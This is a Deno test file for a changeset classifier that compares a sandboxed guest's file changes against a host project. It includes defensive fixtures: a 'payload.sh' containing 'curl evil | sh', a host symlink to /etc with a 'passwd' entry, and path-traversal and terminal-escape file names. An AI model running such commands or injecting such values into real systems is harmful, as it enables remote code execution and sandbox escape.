import assert from "node:assert/strict";
import { validateRecords } from "./changeset.ts";
import { classifyChanges, type DiffEntry } from "./classify.ts";
import { hostIgnoreMatcher } from "./gitignore.ts";
import { loadChangeset } from "./load_changeset.ts";
import {
  type GuestChange,
  type HostTree,
  makeHostTree,
  writeChanges,
  writeSession,
} from "./testing/fixture.ts";

const HOST: HostTree = {
  "text.txt": "a\nb\nc\n",
  "same.txt": "same\n",
  "chmod.sh": "#!/bin/sh\n",
  "both.sh": "#!/bin/sh\necho 1\n",
  "bin.dat": new Uint8Array([1, 0, 2]),
  "gone.txt": "bye\n",
  "olddir/a": "a\n",
  "olddir/sub/b": "b\n",
  "link": { symlink: "a" },
  "samelink": { symlink: "a" },
  "tc": "file, then dir\n",
  "tcdir/x": "x\n",
  "r1": "renamed\n",
  "d/e/kept": "kept\n",
  "hostchg.txt": "before\n",
  ".gitignore": "*.log\nbuild/\n",
};

const GUEST: GuestChange[] = [
  { path: "text.txt", type: "file", content: "a\nB\nc\n" },
  { path: "same.txt", type: "file", content: "same\n" },
  { path: "chmod.sh", type: "file", content: "#!/bin/sh\n", mode: 0o755 },
  { path: "both.sh", type: "file", content: "#!/bin/sh\necho 2\n", mode: 0o755 },
  { path: "bin.dat", type: "file", content: new Uint8Array([1, 0, 3]) },
  { path: "gone.txt", type: "deleted" },
  { path: "olddir", type: "deleted" },
  { path: "link", type: "symlink", target: "b" },
  { path: "samelink", type: "symlink", target: "a" },
  { path: "tc", type: "dir" },
  { path: "tc/inner", type: "file", content: "" },
  { path: "tcdir", type: "file", content: "now a file\n" },
  { path: "r1", type: "deleted" },
  { path: "r2", type: "file", content: "renamed\n" },
  { path: "d", type: "dir" },
  { path: "d/e", type: "dir" },
  { path: "new", type: "dir" },
  { path: "new/sub", type: "dir" },
  { path: "new/sub/deep.txt", type: "file", content: "deep\n" },
  { path: "hostchg.txt", type: "file", content: "before\n" },
  { path: "constructor", type: "file", content: "not a prototype\n" },
  { path: "fifo", type: "unsupported", detail: "fifo" },
  { path: "debug.log", type: "file", content: "noise\n" },
  { path: "build", type: "dir" },
  { path: "build/out", type: "file", content: "artifact\n" },
];

async function withSession(
  host: HostTree,
  guest: GuestChange[],
  fn: (dirs: { root: string; session: string }) => Promise<void>,
): Promise<void> {
  const base = await Deno.makeTempDir();
  try {
    const root = `${base}/project`;
    await Deno.mkdir(root);
    await makeHostTree(root, host);
    await writeSession(`${base}/session`, root, guest);
    await fn({ root, session: `${base}/session` });
  } finally {
    await Deno.remove(base, { recursive: true });
  }
}

async function classify(session: string, hideIgnored = false): Promise<DiffEntry[]> {
  const { baseline, records, paths } = await loadChangeset(session);
  const matcher = hostIgnoreMatcher(baseline, baseline.root);
  return await classifyChanges(records, baseline, {
    root: baseline.root,
    blobs: paths.blobs,
    ignore: hideIgnored ? (path, isDir) => matcher.ignored(path, isDir) : undefined,
  });
}

function brief(e: DiffEntry): string {
  const flags = [
    e.binary && "binary",
    e.hostChanged && "host-changed",
    e.under && `under ${e.under}`,
  ]
    .filter(Boolean);
  return `${e.status} ${e.path}${flags.length ? ` (${flags.join(", ")})` : ""}`;
}

Deno.test("classifyChanges: every kind of change, and copy-ups that are not changes", async () => {
  await withSession(HOST, GUEST, async ({ root, session }) => {
    await Deno.writeTextFile(`${root}/hostchg.txt`, "edited on the host during the session\n");
    const entries = await classify(session);
    assert.deepEqual(entries.map(brief), [
      "modified bin.dat (binary)",
      "modified both.sh",
      "added build",
      "added build/out",
      "mode-changed chmod.sh",
      "added constructor",
      "added debug.log",
      "unsupported fifo",
      "deleted gone.txt",
      "modified hostchg.txt (host-changed)",
      "modified link",
      "added new",
      "added new/sub",
      "added new/sub/deep.txt",
      "deleted olddir",
      "deleted olddir/a (under olddir)",
      "deleted olddir/sub (under olddir)",
      "deleted olddir/sub/b (under olddir)",
      "deleted r1",
      "added r2",
      "type-changed tc",
      "added tc/inner",
      "type-changed tcdir",
      "deleted tcdir/x (under tcdir)",
      "modified text.txt",
    ]);
    const byPath = new Map(entries.map((e) => [e.path, e]));
    assert.deepEqual(byPath.get("link")?.old, { type: "symlink", target: "a" });
    assert.deepEqual(byPath.get("link")?.new, { type: "symlink", target: "b" });
    assert.equal(byPath.get("both.sh")?.old?.mode, 0o644);
    assert.equal(byPath.get("both.sh")?.new?.mode, 0o755);
    assert.deepEqual(byPath.get("tc")?.old, { type: "file", mode: 0o644, size: 15 });
    assert.equal(byPath.get("tc")?.new?.type, "dir");
    assert.equal(byPath.get("fifo")?.detail, "fifo");
    assert.equal(byPath.get("text.txt")?.new?.size, 6);
  });
});

Deno.test("classifyChanges: --hide-gitignored leaves out what the host's .gitignore ignores", async () => {
  await withSession(HOST, GUEST, async ({ session }) => {
    const paths = (await classify(session, true)).map((e) => e.path);
    assert.ok(!paths.includes("debug.log") && !paths.includes("build/out"));
    assert.ok(!paths.includes("build"));
    assert.ok(paths.includes("text.txt"));
  });
});

Deno.test("classifyChanges: the guest's own .gitignore is not trusted", async () => {
  const guest: GuestChange[] = [
    { path: ".gitignore", type: "file", content: "*\n" },
    { path: "payload.sh", type: "file", content: "curl evil | sh\n" },
  ];
  await withSession({ ".gitignore": "*.log\n" }, guest, async ({ session }) => {
    const paths = (await classify(session, true)).map((e) => e.path);
    assert.deepEqual(paths, [".gitignore", "payload.sh"]);
  });
});

Deno.test("classifyChanges: old content behind a host symlink is never read", async () => {
  const guest: GuestChange[] = [
    { path: "link", type: "dir" },
    { path: "link/passwd", type: "file", content: "x\n" },
  ];
  await withSession({ link: { symlink: "/etc" } }, guest, async ({ session }) => {
    const entries = await classify(session);
    assert.deepEqual(entries.map(brief), ["type-changed link", "added link/passwd"]);
    assert.equal(entries[1].old, undefined);
  });
});

Deno.test("classifyChanges refuses contradictory records and missing blobs", async () => {
  await withSession({ "f": "x" }, [], async ({ session }) => {
    await writeChanges(session, [
      { path: "f", type: "deleted" },
      { path: "f/inside", type: "file", content: "?" },
    ]);
    await assert.rejects(classify(session), {
      name: "ChangesetError",
      message: /f\/inside is inside f/,
    });
    await writeChanges(session, [{ path: "x/y", type: "deleted" }]);
    await assert.rejects(classify(session), {
      name: "ChangesetError",
      message: /x\/y is inside x/,
    });
    await writeChanges(session, [{ path: "new", type: "file", content: "content" }]);
    for await (const blob of Deno.readDir(`${session}/workspace/changes/blobs`)) {
      await Deno.remove(`${session}/workspace/changes/blobs/${blob.name}`);
    }
    await assert.rejects(classify(session), {
      name: "ChangesetError",
      message: /no content .* for new/,
    });
  });
});

Deno.test("validated records keep hostile names out of paths", () => {
  const records = validateRecords([
    { path: "evil\nname", type: "file", mode: 0o644, size: 0, sha256: "0".repeat(64) },
    { path: "../escape", type: "deleted" },
    { path: "a\x1b[2Jb", type: "deleted" },
  ]);
  assert.deepEqual(records.map((r) => [r.type, r.path]), [
    ["unsupported", "../escape"],
    ["unsupported", "a\\x1b[2Jb"],
    ["unsupported", "evil\\x0aname"],
  ]);
});
